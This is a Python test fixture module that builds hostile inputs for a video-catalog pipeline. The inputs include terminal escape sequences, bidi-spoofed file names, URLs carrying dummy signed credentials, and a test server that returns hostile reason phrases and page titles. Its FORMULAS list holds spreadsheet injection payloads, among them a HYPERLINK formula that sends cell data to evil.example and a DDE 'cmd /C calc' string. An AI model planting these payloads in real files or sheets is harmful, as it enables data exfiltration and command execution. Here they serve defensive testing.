"""Hostile input for what a person is shown (issue 14), made at test time.

Five classes, several variants each:
1. control characters and escape sequences (ESC/CSI/OSC, C1, bidi, zero-width, line breaks) in
   file names, URL cells, a server's reason phrase and an HTML page's title;
2. local files whose content must never be quoted (an env file, a private key, notes, JSON, a
   saved page, a playlist) and server bodies that may be quoted only by their page title;
3. credentials and signed tokens in URLs (userinfo, S3/GCS/Azure/CloudFront signatures, OAuth
   tokens and codes, API keys), refused or fetched - a fetch must still use the full URL;
8. tiny clips (1x1 .. 16x16) that are no outro card, real videos mislabelled as text, and
   workbooks whose videos are on another (or a hidden) worksheet;
7. (formulas) is exercised by the report with analysts' names: see ``FORMULAS``.

Every planted secret contains ``SECRET_MARK``; ``leaks`` finds any of them in shown text.
"""

from __future__ import annotations

import base64
import json
import os
from collections.abc import Callable
from fractions import Fraction
from pathlib import Path
from urllib.parse import quote, unquote

import av
import numpy as np
import openpyxl
import pandas as pd

from influencer_pipeline_tests.hostile.cases import (
    Failed,
    Loads,
    Ok,
    Rejected,
    RowCase,
    SheetCase,
    SheetFails,
    Where,
)
from influencer_pipeline_tests.hostile.server import HostileHandler

SECRET_MARK = "SECRET"
ENV_PASSWORD = "hunter2-envSECRET"
PROSE_SECRET = "passphrase-proseSECRET"
KEY_SECRET = "b3BlbnNzaC1rZXktdjEAAAAAkeySECRET"
TITLE_SECRET = "titleSECRET"
SIGNATURE = "deadbeefsigSECRET"
BASIC_USER, BASIC_PASSWORD = "analyst", "basicpwSECRET"

# Escape sequences and invisible controls, each planted in names, cells, reasons and titles.
ESCAPES: dict[str, str] = {
    "csi_clear": "\x1b[2J\x1b[H",
    "osc_title": "\x1b]0;pwned\x07",
    "osc_hyperlink": "\x1b]8;;http://evil.example/\x1b\\",
    "c1_csi": "\x9b31m",
    "bidi_override": "\u202egnp.exe",
    "bidi_isolate": "\u2066\u2069",
    "bell_backspace": "\x07\x08\x08",
    "line_breaks": "\n\r\u2028",
    "zero_width": "\u200b\ufeff",
}
# Reason phrases a server may send (latin-1 only, as HTTP/1.1 carries them).
REASONS = (
    "Not Found\x1b]0;pwned\x07\x1b[2J token=reasonSECRET",
    "Gone\x9b31m\x85\x7f\x1b[5m blink",
)
TITLES = (
    f"Removed \x1b[2J\x1b]8;;http://evil.example/\x07 sig={TITLE_SECRET}",
    "Moved \u202eevil\u202c \x9b1m",
)
# Analysts' text that a spreadsheet would run (OWASP CSV injection), for names and ids.
FORMULAS = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",
)
SECRET_URLS = (  # refused before connecting (private addresses), shown everywhere they appear
    f"http://admin:pwSECRET@10.0.0.5/v.mp4?X-Amz-Signature={SIGNATURE}",
    "https://192.168.1.1/v.mp4?X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Credential="
    "AKIAcredSECRET%2F20240101%2Fus-east-1&X-Amz-Security-Token=stsSECRET&X-Amz-Date=20240101",
    "http://10.1.1.1/v.mp4?sv=2022&se=2030-01-01&sig=azureSECRET%3D",
    "http://10.2.2.2/v.mp4?token=tokSECRET&x=1#access_token=fragSECRET",
    "http://172.16.0.9/v.mp4?Policy=polSECRET&Key-Pair-Id=kpSECRET&Signature=cfSECRET",
    "http://10.3.3.3/v.mp4?api_key=akSECRET&code=oauthSECRET&password=qpSECRET&X-Goog-"
    "Signature=gsSECRET",
)
REJECTED_SECRET_URLS = (
    "https://user:rejSECRET@exa mple.com/v.mp4",
    "ftp://ftpuser:ftpSECRET@example.com/v.mp4?token=ftptokSECRET",
)
CONTROL_CELLS = {  # URL cells with controls: rejected, and the reason shows them escaped
    "csi": "https://cdn.example.com/\x1b[2Jv.mp4",
    "osc": "https://cdn.example.com/v.mp4\x1b]0;x\x07",
    "c1": "https://cdn.example.com/\x9bv.mp4",
    "del_bell": "clip\x7f\x07.mp4",
    "bidi_in_host": "https://exa\u202emple.com/v.mp4",
}
OPEN_VIDEO_PATHS = (  # routes of the open server that serve a video (each its own, in the run)
    "/as/text%2Fplain",
    "/as/text%2Fhtml%3B%20charset%3Dutf-8",
    "/signed",
    "/auth",
)


OPEN_SERVER = os.environ.get("HOSTILE_EXECUTOR", "in_process") == "in_process"


def leaks(text: str) -> list[str]:
    """The planted secrets (or a piece of a local file) that ``text`` shows."""
    found = [word for word in text.replace("%3D", "=").split() if SECRET_MARK in word]
    return found + [s for s in ("DB_PASSWORD", "BEGIN OPENSSH") if s in text]


def unsafe(text: str, lines: bool = False) -> list[str]:
    """Characters of ``text`` that are not printable (line breaks allowed when ``lines``)."""
    allowed = "\n" if lines else ""
    return sorted({c for c in text if not c.isprintable() and c not in allowed})


# --- local files ---------------------------------------------------------------------------


TEXT_FILES: dict[str, bytes] = {
    "settings.env": f"DB_PASSWORD={ENV_PASSWORD}\nAPI_TOKEN=envtokSECRET\n".encode(),
    "notes.mp4": f"the vault {PROSE_SECRET} is under the desk\n".encode(),
    "export.json": json.dumps({"user": "a", "secret": "jsonfileSECRET"}).encode(),
    "saved_page.mp4": f"<html><title>{TITLE_SECRET} page</title></html>".encode(),
    "stream.m3u8": b"#EXTM3U\n#EXT-X-KEY:METHOD=AES-128,URI=keySECRET\nseg1.ts\n",
    "id_rsa.mp4": f"-----BEGIN OPENSSH PRIVATE KEY-----\n{KEY_SECRET}\n".encode(),
}


def text_file(name: str) -> Callable[[Where], str]:
    """A cell naming a text file beside the sheet (its content must never be shown)."""

    def cell(where: Where) -> str:
        (where.sheet_dir / name).write_bytes(TEXT_FILES[name])
        return name

    return cell


def encode_clip(path: Path, width: int, height: int, colour: tuple[int, int, int]) -> Path:
    """A 2 s still clip of ``width`` x ``height`` pixels (PNG frames in MOV: any size works)."""
    picture = np.zeros((height, width, 3), np.uint8)
    picture[...] = colour
    picture[:, :1] = 255 - np.array(colour, np.uint8)  # two colours: not a flat, blank frame
    with av.open(str(path), "w", format="mov") as container:
        stream = container.add_stream("png", rate=Fraction(5))
        stream.width, stream.height, stream.pix_fmt = width, height, "rgb24"
        for _ in range(10):
            container.mux(stream.encode(av.VideoFrame.from_ndarray(picture, format="rgb24")))
        container.mux(stream.encode())
    return path


def tiny_clip(width: int, height: int, colour: tuple[int, int, int]) -> Callable[[Where], str]:
    """A cell naming a tiny still clip beside the sheet."""

    def cell(where: Where) -> str:
        name = f"tiny_{width}x{height}_{colour[0]}.mov"
        return encode_clip(where.sheet_dir / name, width, height, colour).name

    return cell


def missing_named(escape: str) -> Callable[[Where], str]:
    """A percent-encoded file URL of a missing file whose name holds ``escape``."""
    return lambda where: "file://" + quote(str(where.sheet_dir / f"missing{escape}.mp4"))


def video_named(escape: str, colour: tuple[int, int, int]) -> Callable[[Where], str]:
    """A percent-encoded file URL of a real clip whose name holds ``escape``."""

    def cell(where: Where) -> str:
        path = where.sheet_dir / f"clip{escape}.mov"
        encode_clip(path, 64, 48, colour)
        return "file://" + quote(str(path))

    return cell


def raw_bidi_name(where: Where) -> str:
    """A plain relative path whose name holds a bidi override (accepted as a cell as is)."""
    encode_clip(where.sheet_dir / "report\u202egnp.mov", 64, 48, (200, 60, 30))
    return "report\u202egnp.mov"


def fixed(text: str) -> Callable[[Where], str]:
    """A cell with exactly ``text``."""
    return lambda _where: text


def served(path: str, userinfo: str = "") -> Callable[[Where], str]:
    """A URL on the open server (127.0.0.2), optionally with ``user:password@``."""
    return lambda where: f"http://{userinfo}127.0.0.2:{where.open_port}{path}"


def _open(expect: Failed | Ok) -> Failed | Ok:
    """What an open-server row ends in: reachable only in-process (see pipeline.py)."""
    return expect if OPEN_SERVER else Failed("private_address")


SHOWN_ROW_CASES: list[RowCase] = [
    *(
        RowCase(f"missing_file_named_{n}", missing_named(e), Failed("file_not_found"))
        for n, e in ESCAPES.items()
    ),
    RowCase("video_named_osc", video_named(ESCAPES["osc_title"], (30, 90, 200)), Ok()),
    RowCase("video_named_c1_and_newline", video_named("\x9b2J\n", (90, 200, 30)), Ok()),
    RowCase("video_named_bidi_raw_cell", raw_bidi_name, Ok()),
    *(
        RowCase(f"cell_with_{name}", fixed(text), Rejected("unparsable_url"))
        for name, text in CONTROL_CELLS.items()
    ),
    *(
        RowCase(f"reason_phrase_{i}", served(f"/reason/{i}"), _open(Failed("http_404")))
        for i in range(len(REASONS))
    ),
    *(
        RowCase(f"page_title_{i}", served(f"/title/{i}"), _open(Failed("html_page")))
        for i in range(len(TITLES))
    ),
    *(RowCase(f"text_file_{n}", text_file(n), Failed("html_page")) for n in TEXT_FILES),
    RowCase("json_error_body", served("/json-secret"), _open(Failed("http_403"))),
    RowCase("plain_text_body", served("/text-secret"), _open(Failed("html_page"))),
    *(
        RowCase(f"secret_url_{i}", fixed(url), Failed("private_address"))
        for i, url in enumerate(SECRET_URLS)
    ),
    RowCase("rejected_userinfo", fixed(REJECTED_SECRET_URLS[0]), Rejected("unparsable_url")),
    RowCase("rejected_ftp_secret", fixed(REJECTED_SECRET_URLS[1]), Rejected("unsupported_scheme")),
    RowCase(
        "signed_url_fetched_whole",
        served(f"/signed?X-Amz-Credential=AKIAcSECRET&X-Amz-Signature={SIGNATURE}"),
        _open(Ok()),
    ),
    RowCase(
        "userinfo_fetched_whole", served("/auth", f"{BASIC_USER}:{BASIC_PASSWORD}@"), _open(Ok())
    ),
    RowCase("mp4_as_text_plain", served(OPEN_VIDEO_PATHS[0]), _open(Ok())),
    RowCase("mp4_as_text_html", served(OPEN_VIDEO_PATHS[1]), _open(Ok())),
    RowCase("tiny_1x1", tiny_clip(1, 1, (250, 20, 20)), Ok()),
    RowCase("tiny_2x2_red", tiny_clip(2, 2, (240, 30, 30)), Ok()),
    RowCase("tiny_2x2_blue", tiny_clip(2, 2, (30, 30, 240)), Ok()),
    RowCase("tiny_3x1", tiny_clip(3, 1, (30, 200, 30)), Ok()),
    RowCase("tiny_16x16", tiny_clip(16, 16, (200, 200, 30)), Ok()),
]
TINY_CASES = ("tiny_1x1", "tiny_2x2_red", "tiny_2x2_blue", "tiny_3x1", "tiny_16x16")


# --- the open server -----------------------------------------------------------------------


class ShownHandler(HostileHandler):
    """The hostile routes plus reason phrases, page titles, bodies with secrets, mislabelled
    videos and routes that serve the video only for the full signed URL or the credentials.

    A server's ``variants`` (path without query -> bytes), when set, gives each video route its
    own video (the corpus keeps every ok video distinct); else every route serves ``video``.
    """

    def _video(self) -> bytes:
        variants = getattr(self.server, "variants", {})
        return variants.get(self.path.split("?", 1)[0], self.server.video)

    def route_reason(self, args: list[str]) -> None:
        """404 with a reason phrase full of escape sequences."""
        body = b"<html><title>Not here</title></html>"
        self.send_response(404, REASONS[int(args[0])])
        self.send_header("Content-Type", "text/html")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def route_title(self, args: list[str]) -> None:
        """200 web page whose title holds escape sequences and a secret."""
        page = f"<html><head><title>{TITLES[int(args[0])]}</title></head></html>"
        self.send_body(200, page.encode("utf-8"), "text/html; charset=utf-8")

    def route_json_secret(self, _: list[str]) -> None:
        """403 with a JSON body holding a secret (no title: nothing may be quoted)."""
        body = json.dumps({"error": "bad key", "detail": "jsonbodySECRET expired"}).encode()
        self.send_body(403, body, "application/json")

    def route_text_secret(self, _: list[str]) -> None:
        """200 plain text holding a secret."""
        self.send_body(200, b"your one-time code is textbodySECRET\n", "text/plain")

    def route_as(self, args: list[str]) -> None:
        """The real video, announced with the (percent-encoded) content type after ``/as/``."""
        self.send_body(200, self._video(), unquote(args[0]))

    def route_signed(self, _: list[str]) -> None:
        """The video only when the request carries the whole signed query."""
        ok = f"X-Amz-Signature={SIGNATURE}" in self.path and "X-Amz-Credential=" in self.path
        if ok:
            self.send_body(200, self._video(), "video/mp4")
        else:
            self.send_body(403, b"<html><title>Signature mismatch</title></html>", "text/html")

    def route_auth(self, _: list[str]) -> None:
        """The video only with the URL's credentials (HTTP basic authentication)."""
        token = base64.b64encode(f"{BASIC_USER}:{BASIC_PASSWORD}".encode()).decode()
        if self.headers.get("Authorization") == f"Basic {token}":
            self.send_body(200, self._video(), "video/mp4")
        else:
            self.send_body(401, b"<html><title>Sign in</title></html>", "text/html")


# --- sheets --------------------------------------------------------------------------------


def _workbook(
    path: Path, sheets: dict[str, list[list[object]]], hidden: tuple[str, ...] = ()
) -> Path:
    workbook = openpyxl.Workbook()
    workbook.remove(workbook.active)
    for title, rows in sheets.items():
        sheet = workbook.create_sheet(title)
        for row in rows:
            sheet.append(row)
        if title in hidden:
            sheet.sheet_state = "hidden"
    workbook.save(path)
    return path


HEADER = ["Video URL", "Performance"]
ROWS = [["https://cdn.example.com/a.mp4", 0.5], ["https://cdn.example.com/b.mp4", 0.7]]


def data_on_second_worksheet(folder: Path) -> Path:
    """A notes worksheet first, the videos on the second."""
    notes = [["Campaign notes"], ["ask the team"]]
    return _workbook(folder / "second.xlsx", {"Notes": notes, "Videos": [HEADER, *ROWS]})


def header_only_then_data(folder: Path) -> Path:
    """A template worksheet with only the header, then the one with rows."""
    sheets = {"Template": [HEADER], "Q3": [HEADER, *ROWS]}
    return _workbook(folder / "template_first.xlsx", sheets)


def data_on_hidden_worksheet(folder: Path) -> Path:
    """A visible summary without the columns and a hidden worksheet with the videos."""
    sheets = {"Summary": [["total", 2]], "raw": [HEADER, *ROWS]}
    return _workbook(folder / "hidden_data.xlsx", sheets, hidden=("raw",))


def two_data_worksheets(folder: Path) -> Path:
    """Two worksheets that both hold videos: which one is meant cannot be told."""
    sheets = {"June": [HEADER, ROWS[0]], "July": [HEADER, ROWS[1]]}
    return _workbook(folder / "two_months.xlsx", sheets)


def no_fitting_worksheet(folder: Path) -> Path:
    """Two worksheets, neither with a URL and a score column."""
    sheets = {"Links": [["link", "views"], ["x", 1]], "Empty": []}
    return _workbook(folder / "no_columns.xlsx", sheets)


def escapes_in_header(folder: Path) -> Path:
    """A CSV whose header cells hold escape sequences and a key=value secret."""
    path = folder / "escaped_header.csv"
    path.write_text(
        "Video\x1b]0;pwned\x07 URL,Perf\u202eormance,api_key=hdrSECRET\nhttps://a.example/v,1,x\n"
    )
    return path


def _two_rows(catalog: pd.DataFrame, rejected: pd.DataFrame) -> None:
    assert sorted(catalog["video_url"]) == [ROWS[0][0], ROWS[1][0]] and rejected.empty


SHOWN_SHEET_CASES: list[SheetCase] = [
    SheetCase("data_on_second_worksheet", data_on_second_worksheet, Loads(_two_rows)),
    SheetCase("header_only_then_data", header_only_then_data, Loads(_two_rows)),
    SheetCase("data_on_hidden_worksheet", data_on_hidden_worksheet, Loads(_two_rows)),
    SheetCase("two_data_worksheets", two_data_worksheets, SheetFails("ambiguous_worksheet")),
    SheetCase("no_fitting_worksheet", no_fitting_worksheet, SheetFails("missing_column")),
    SheetCase("escapes_in_header_csv", escapes_in_header, SheetFails("missing_column")),
]
# The worksheet names each failing workbook's message must name.
WORKSHEETS_NAMED = {
    "two_data_worksheets": ("'June'", "'July'"),
    "no_fitting_worksheet": ("'Links'", "'Empty'"),
}
